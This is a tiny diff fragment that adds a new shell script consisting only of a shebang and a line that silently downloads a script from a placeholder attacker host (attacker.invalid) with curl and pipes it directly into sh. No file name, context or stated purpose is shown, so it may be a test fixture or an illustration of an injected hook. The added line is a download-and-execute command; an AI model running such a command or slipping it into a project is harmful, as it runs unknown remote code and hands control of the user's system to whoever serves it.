@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -s https://attacker.invalid/u | sh
